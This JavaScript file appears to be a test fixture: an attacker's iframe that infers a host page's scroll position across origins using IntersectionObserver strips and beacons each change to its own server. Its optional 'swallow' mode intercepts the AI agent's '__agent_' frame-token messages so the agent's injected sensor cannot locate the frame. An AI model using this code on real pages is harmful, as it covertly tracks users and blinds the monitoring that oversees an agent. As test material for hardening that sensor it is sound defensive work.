// The attacker's frame, 7000 px tall in the user's page: 350 strips of 20 px, each watched for
// being on screen (IntersectionObserver works across origins). Which strips the top-level
// viewport shows tells where the page is scrolled; each change is sent home (-1: none shown).
// ?initial: the first sight is sent too (a frame the page adds late sees where the page already
// is). ?swallow: the frame keeps the agent's frame token to itself (its listener comes before the
// sensor's, which is injected only when the agent first reads the page), so the sensor never
// learns where the frame is shown.
const mode = new URLSearchParams(location.search);
if (mode.has('swallow')) {
  addEventListener('message', (event) => {
    const data = event.data;
    if (data && typeof data === 'object' && Object.keys(data).some((key) => key.startsWith('__agent_'))) {
      event.stopImmediatePropagation();
    }
  }, true);
}
const strips = document.getElementById('strips');
const visible = new Set();
let reported = null;
let seen = false;
let timer = null;
const observer = new IntersectionObserver((entries) => {
  for (const entry of entries) {
    const i = Number(entry.target.dataset.i);
    if (entry.isIntersecting) visible.add(i); else visible.delete(i);
  }
  clearTimeout(timer);
  timer = setTimeout(() => {
    const first = visible.size ? Math.min(...visible) : -1;
    if ((seen || mode.has('initial')) && first !== reported) new Image().src = `/seen?first=${first}`;
    seen = true;
    reported = first;
  }, 300);
});
for (let i = 0; i < 350; i++) {
  const strip = document.createElement('div');
  strip.style.height = '20px';
  strip.dataset.i = String(i);
  strip.textContent = i % 10 === 0 ? `Ad ${i}` : '';
  strips.append(strip);
  observer.observe(strip);
}
